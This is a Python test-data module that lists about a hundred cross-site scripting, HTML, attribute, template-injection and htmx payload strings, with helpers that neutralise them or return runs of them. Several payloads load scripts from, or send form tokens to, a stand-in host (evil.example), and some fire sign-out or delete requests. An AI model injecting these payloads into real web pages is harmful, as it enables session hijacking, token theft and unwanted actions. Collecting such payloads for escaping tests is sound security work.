"""Texts that would be more than text if a page let them: one hundred of them."""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//",
    "<IMG SRC=javascript:alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=//evil>",
    "<a href=javascript:alert(1)>x</a>", "<form action=//evil.example><input name=token>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
    "<b>bold</b><i>italic", "<plaintext>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<div style=width:1px>",
)  # fmt: skip
ENDS = (
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><img src=x onerror=alert(1)>",
    "</template><img src=x>", "</select><img src=x>", "</option><option selected>", "</td></tr></table><h1>x", "-->",
    "<!--", "<!-- --!><img src=x>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?>",
    "</main></body></html>",
    "<!doctype html>", "</pre></code><hr>", "</button></form><form action=//evil>", "</dialog><dialog open>",
)  # fmt: skip
ATTRIBUTES = (
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '"><script>alert(1)</script>', "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="', "` onmouseover=alert(1) `", " onmouseover=alert(1) ", '"/><img src=x>',
    '" style="position:fixed;inset:0', '" class="toast', '" id="live', "&quot; onclick=&quot;alert(1)",
    "\\\" onx=\\\"1",
    '" data-confirm="no" data-href="//evil', '" name="csrf" value="x',
)  # fmt: skip
SCRIPT_URLS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://%0aalert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/",
    "/\\evil.example", "https:evil.example", "\x01javascript:alert(1)",
)  # fmt: skip
DRAWN = (
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><foreignObject><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "</svg><img src=x>",
)  # fmt: skip
TEMPLATES = (
    "{{ 7 * 7 }}", "{{ view.app.settings }}", "{% for x in [1] %}<b>{% endfor %}", "{{ ''.__class__.__mro__ }}",
    "${7*7}", "#{7*7}",
    "{# hidden #}", "<%= 7 * 7 %>", "%s%n%(x)s{0}{x}",
)  # fmt: skip
HTMX = (
    "<div hx-get=/sign-out hx-trigger=load>", '" hx-post="/jobs/delete" hx-trigger="load',
    "<div data-hx-on:load=alert(1)>",
    "<div hx-on::load=alert(1)>", "<meta name=htmx-config content='{}'>", '<div id="toasts" hx-swap-oob="true">',
)  # fmt: skip
BREAKS = ('"}]<script>', "\\u003cscript\\u003ealert(1)", '{"__proto__":{"x":1}}')
ODD = (
    "\u202e<b>drawkcab\u202c", "\u2028alert(1)\u2029<i>", "\x1b[2J\x1b[31m<u>\x07\x08\x7f\x85",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e<p>",
)  # fmt: skip

PAYLOADS = (*MARKUP, *ENDS, *ATTRIBUTES, *SCRIPT_URLS, *DRAWN, *TEMPLATES, *HTMX, *BREAKS, *ODD)
_LETTERS = str.maketrans(dict.fromkeys("<>\"'&`", "x"))


def harmless(text: str) -> str:
    """The same without what markup is made of."""
    return text.translate(_LETTERS)


def some(start: int, amount: int, *, printable: bool = False) -> str:
    """So many payloads from the one with this number on, one after the other."""
    chosen = [PAYLOADS[(start + number) % len(PAYLOADS)] for number in range(amount)]
    return " ".join(text for text in chosen if text.isprintable() or not printable).strip()
